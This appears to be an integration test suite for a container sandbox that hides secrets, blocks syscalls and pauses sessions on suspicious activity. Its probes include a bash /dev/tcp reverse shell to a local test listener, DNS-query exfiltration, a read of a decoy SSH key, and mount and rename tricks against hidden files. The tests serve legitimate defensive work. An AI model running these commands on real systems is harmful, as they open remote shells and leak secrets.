// Goal: settings that hide, deny and remove take effect in a session that the built program made.
// Method: one session with everything on and one with it off, in equal workspaces; every probe in both.
import assert from 'node:assert/strict';
import { chown, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { after, before, test } from 'node:test';
import { coidSocketPath, openCoid } from '../../src/coid-api/client.ts';
import { type Bed, makeBed } from '../bed/bed.ts';
import { Lifecycle } from '../bed/events.ts';
import { slowdown } from '../bed/slowdown.ts';
import { untilWritten } from '../bed/until.ts';
import { startAttacker } from './attacker.ts';
import { untilAudited } from './audited.ts';
import { deniedCalls, hiddenFileProbes } from './probes.ts';

const timeout = 120_000;
const hidden = `
[security]
secret_paths = [".env", "**/*.pem", "keys", "config/token", ".linked"]
reduce_kernel_surface = true
reduce_kernel_surface_strict = true
[container]
docker = false
[network]
mode = "allowlist"
[monitoring]
enabled = true
bait = true
poll_interval_sec = 1
`;
const secret = 'the-secret-of-this-test';
let bed: Bed;
let guarded: string;
let open: string;
let elsewhere: string;
let lifecycle: Lifecycle;

before(async () => {
  bed = await makeBed({ git: true, coidEnv: { COI_RECONCILE_EVERY_MS: '2000' } });
  lifecycle = await Lifecycle.open(bed.incus);
  const other = await bed.user.run(['mktemp', '-d', '/tmp/coit-work-XXXXXX']);
  elsewhere = other.stdout.trim();
  for (const top of [bed.workspace.path, elsewhere]) {
    for (const path of ['.env', 'deep/down/server.pem', 'keys/one', 'conf/token', 'one', 'plain'])
      await writeAsUser(join(top, path), `${secret}\n`);
    await bed.user.run(['ln', '-s', 'conf', join(top, 'config')]);
    await bed.user.run(['ln', '-s', 'one', join(top, '.linked')]);
  }
  open = await session('[network]\nmode = "open"\n', elsewhere);
  // Just before the session, so none of its changes.
  await writeAsUser(join(bed.workspace.path, 'Makefile'), 'all:\n');
  guarded = await session(hidden, bed.workspace.path);
});
after(async () => {
  lifecycle?.[Symbol.dispose]();
  await bed?.[Symbol.asyncDispose]();
  await rm(elsewhere, { recursive: true, force: true });
});

test('hidden paths are empty for agent and root by every route; without hiding each route reads them', {
  timeout,
}, async () => {
  // Root of its own user namespace would have no access to the agent's directory.
  const own = 'own="unshare -Urm"; [ $(id -u) = 0 ] && own="unshare -m"';
  const script = Object.values(hiddenFileProbes).map((way) => `(${way}) 2>/dev/null; echo "#next"`);
  for (const user of [1000, 0]) {
    const [bare, secured] = await Promise.all(
      [open, guarded].map(async (one) =>
        (await sh(one, [own, ...script].join('\n'), user)).stdout.split('#next'),
      ),
    );
    Object.keys(hiddenFileProbes).forEach((name, index) => {
      assert.match(bare?.[index] ?? '', new RegExp(secret), `${name}, as ${user}, not hidden`);
      assert.doesNotMatch(secured?.[index] ?? secret, new RegExp(secret), `${name}, as ${user}`);
    });
  }
  assert.equal((await sh(guarded, 'cat /workspace/plain', 1000)).stdout.trim(), secret);
});

test('the host user can read and write hidden files, and the agent cannot write them', {
  timeout,
}, async () => {
  const path = join(bed.workspace.path, '.env');
  await bed.user.run(['sh', '-c', `echo more >> ${path}`]);
  assert.equal(await readFile(path, 'utf8'), `${secret}\nmore\n`);
  assert.notEqual((await sh(guarded, 'echo x >> /workspace/.env', 0)).status, 0);
  assert.equal((await sh(guarded, 'cat /workspace/.env', 1000)).stdout, '');
});

test('denied system calls do not exist inside; without the list they do', { timeout }, async () => {
  const probes = Object.values(deniedCalls).map(
    (words) => `perl -e 'syscall(${words}); print $! + 0, "\\n"'`,
  );
  const errors = async (container: string) =>
    (await sh(container, probes.join('\n'), 0)).stdout.trim().split('\n');
  const [without, withList] = await Promise.all([errors(open), errors(guarded)]);
  Object.keys(deniedCalls).forEach((name, index) => {
    assert.notEqual(without?.[index], '38', `${name} without the list`);
    assert.equal(withList?.[index], '38', name);
  });
  const vsock = `perl -e 'socket(my $s, 40, 1, 0) or exit($! + 0); exit 0'`;
  assert.equal((await sh(guarded, vsock, 0)).status, 97);
  assert.match((await sh(guarded, 'systemctl is-system-running', 0)).stdout, /running|degraded/);
});

test('without Docker nesting is off', { timeout }, async () => {
  const nested = 'unshare -Urmpf sh -c "mount -t proc proc /proc"';
  assert.equal((await sh(open, nested, 0)).status, 0);
  assert.notEqual((await sh(guarded, nested, 0)).status, 0);
});

test('setuid, setgid and capabilities are reported while the session runs', {
  timeout,
}, async () => {
  const capabilities =
    'my $v = pack("V5", 0x02000001, 0x400, 0, 0, 0); my ($p, $n) = ("capable", "security.capability"); exit(syscall(188, $p, $n, $v, 20, 0) == 0 ? 0 : 1)';
  const made = await sh(
    guarded,
    `cd /workspace; cp /bin/true by-root; cp /bin/true capable; chmod 6755 by-root; perl -e '${capabilities}'`,
    0,
  );
  assert.equal(made.status, 0, made.stderr);
  const own =
    'cd /workspace; cp /bin/true by-agent; chmod 4755 by-agent; mkdir -p .github/workflows; echo x > .github/workflows/ci.yml';
  assert.equal((await sh(guarded, own, 1000)).status, 0);
  const result = await bed.coi(['handoff', '--json']);
  const found = JSON.parse(result.stdout).files.map(({ path }: { path: string }) => path);
  for (const path of ['by-agent', 'by-root', '.github/workflows/ci.yml'])
    assert.ok(found.includes(path), `${path} in ${found}`);
  const mode = async (name: string) =>
    ((await stat(join(bed.workspace.path, name))).mode & 0o7777).toString(8);
  assert.deepEqual([await mode('by-agent'), await mode('by-root')], ['4755', '6755']);
});

test('opening a decoy file pauses the session, and so do DNS queries that carry data out', {
  timeout,
}, async () => {
  const coid = openCoid({ socketPath: coidSocketPath(bed.env) });
  let pauses = 0;
  for (const [title, script] of [
    // Decoys are written and watched one after the other: the last one means that the key is watched.
    [
      'Bait file accessed',
      'until [ -e ~/.config/passwords.txt ]; do sleep 0.05; done; cat ~/.ssh/id_ed25519_deploy > /dev/null',
    ],
    [
      'Data in DNS queries',
      'for i in 1 2 3 4 5 6; do getent hosts $i$(head -c 25 /dev/urandom | od -An -tx1 | tr -d " \\n").t.example.invalid; done; true',
    ],
  ] as const) {
    pauses += 1;
    const paused = lifecycle.until('instance-paused', guarded, pauses);
    void sh(guarded, `export HOME=/home/code; ${script}`, 1000).catch(() => undefined);
    await paused;
    const found = await untilAudited(coid, guarded, (record) => record.title === title);
    assert.equal(found.action, 'paused');
    const result = await bed.coi(['list']);
    assert.match(result.stdout, new RegExp(`PAUSED: ${title}`));
    // Without a name: all paused ones.
    assert.match((await bed.coi(['unfreeze'])).stdout, new RegExp(guarded));
    await untilAudited(coid, guarded, ({ action }) => action === 'unfrozen');
  }
  // In an unmonitored session the same is not reported.
  assert.equal((await sh(open, 'ls -a ~/.ssh; true', 1000)).stdout.includes('deploy'), false);
});

test('a device file cannot be created in the workspace by any user', { timeout }, async () => {
  for (const one of [open, guarded])
    for (const kind of ['c 1 3', 'b 7 0'])
      assert.notEqual((await sh(one, `mknod /workspace/device ${kind}`, 0)).status, 0, kind);
  assert.equal((await sh(open, 'mknod /workspace/pipe p', 0)).status, 0);
});

test('container root cannot remove a cover with umount, a detached tree or a rename', {
  timeout,
}, async () => {
  const attacks = [
    'umount /workspace/.env; cat /workspace/.env',
    'mount -o remount,rw /workspace/.env; cat /workspace/.env',
    'rm /workspace/config && cat /workspace/plain',
    'mv /workspace/.linked /workspace/moved && cat /workspace/plain',
    'mv /workspace/deep /workspace/deep2; cat /workspace/deep*/down/server.pem; mv /workspace/deep2 /workspace/deep',
    'exec 9</workspace; umount -l /workspace; cd /proc/self/fd/9; cat .env; mv .env moved; cat moved; umount -l .env; cat .env',
  ];
  for (const attack of attacks) {
    const { stdout } = await sh(guarded, attack, 0);
    assert.doesNotMatch(stdout, new RegExp(secret), attack);
  }
  // Control: files that are not hidden can be read from the detached tree.
  const bare = await sh(
    open,
    'exec 9</workspace; unshare -m sh -c "umount -l /workspace; cd /proc/self/fd/9; cat .env"',
    0,
  );
  assert.match(bare.stdout, new RegExp(secret), bare.stderr);
});

test('setuid bits are stripped at the end, and reported with other files that the host would run', {
  timeout,
}, async () => {
  const result = await bed.coi(['shutdown', guarded]);
  assert.equal(result.status, 0, result.stderr);
  for (const line of [
    /by-agent - it had setuid, which coi removed/,
    /by-root - it had setuid, setgid, which coi removed/,
    /capable - it had capabilities, which coi removed/,
    /ci\.yml - the build server runs it/,
  ])
    assert.match(result.stderr, line);
  assert.doesNotMatch(result.stderr, /Makefile/);
  for (const name of ['by-agent', 'by-root'])
    assert.equal((await stat(join(bed.workspace.path, name))).mode & 0o6000, 0, name);
  // It can be queried afterwards too.
  assert.match((await bed.coi(['handoff'])).stdout, /by-agent +it had setuid/);
});

test('a reverse shell on a terminal session is paused in three seconds, shown everywhere, and resumable', {
  timeout,
}, async () => {
  await using remote = await startAttacker();
  await writeAsUser(
    join(bed.user.home, '.coi/config.toml'),
    `[network]\nmode = "open"\n[monitoring]\nenabled = true\nkill_grace_sec = 600\n[notify]\ncommand = ["sh", "-c", "id -u > $HOME/who; cat > $HOME/notified"]\n`,
  );
  const known = await bed.instances();
  const screen = bed.screen(['shell', '--image', bed.image, '--debug'], { cwd: elsewhere });
  await screen.waitFor(/code@\S+\$ *$/m, 30_000);
  const [name = ''] = (await bed.instances()).filter((one) => !known.includes(one));
  const coid = openCoid({ socketPath: coidSocketPath(bed.env) });
  await untilAudited(coid, name, ({ action }) => action === 'watch-started');
  const ip = await gatewayOf(name);
  screen.type(`bash -c 'bash -i >& /dev/tcp/${ip}/${remote.port} 0>&1' &\r`);
  await remote.connected;
  const connectedMs = performance.now();
  const shown = screen.waitUntil(
    'the alert',
    () => screen.output().includes('*** SECURITY: Container'),
    30_000,
  );
  await lifecycle.until('instance-paused', name);
  const tookMs = performance.now() - connectedMs;
  assert.ok(tookMs < 3000 * (await slowdown()), `paused after ${Math.round(tookMs)} ms`);
  await shown;
  assert.match(
    screen.output(),
    new RegExp(`${name} PAUSED - Reverse shell: .*${ip}:${remote.port}`),
  );
  assert.match(screen.output(), new RegExp(`coi unfreeze ${name}`));
  const notified = JSON.parse(await untilWritten(join(bed.user.home, 'notified')));
  assert.deepEqual([notified.container, notified.action], [name, 'paused']);
  // As the user, not as coid.
  assert.equal((await readFile(join(bed.user.home, 'who'), 'utf8')).trim(), String(bed.user.uid));
  const listed = await bed.coi(['list'], { cwd: elsewhere });
  assert.match(listed.stdout, /PAUSED: Reverse shell/);
  const reported = await bed.coi(['audit', name], { cwd: elsewhere });
  assert.match(reported.stdout, new RegExp(`Reverse shell.*${ip}:${remote.port}`));
  assert.match((await bed.coi(['audit', name, '--verify'])).stdout, /The log is intact/);
  const released = await bed.coi(['unfreeze', name], { cwd: elsewhere });
  assert.equal(released.status, 0, released.stderr);
  screen.type('echo "goes $((40 + 2))"\r');
  await screen.waitFor(/goes 42/);
  assert.match(
    (await bed.coi(['list'], { cwd: elsewhere })).stdout,
    /unfrozen after: Reverse shell/,
  );
});

/** Starts a background session with that configuration; returns its container's name. */
async function session(config: string, workspace: string): Promise<string> {
  await writeAsUser(join(bed.user.home, '.coi/config.toml'), config);
  const known = await bed.instances();
  const result = await bed.coi(['shell', '--image', bed.image, '--background'], { cwd: workspace });
  assert.equal(result.status, 0, result.stderr);
  const [name] = (await bed.instances()).filter((one) => !known.includes(one));
  assert.ok(name);
  return name;
}

async function sh(container: string, script: string, user: number) {
  const { status, stdout, stderr } = await bed.incus.execCaptured(container, {
    command: ['sh', '-c', script],
    user,
    group: user,
  });
  return { status, stdout: stdout.toString(), stderr: stderr.toString() };
}

async function writeAsUser(path: string, text: string): Promise<void> {
  await bed.user.run(['mkdir', '-p', dirname(path)]);
  await writeFile(path, text);
  await chown(path, bed.user.uid, bed.user.gid);
}

/** The host's end of the container's network. */
async function gatewayOf(container: string): Promise<string> {
  return (
    await sh(container, "ip route | sed -n 's/^default via \\([^ ]*\\).*/\\1/p'", 0)
  ).stdout.trim();
}
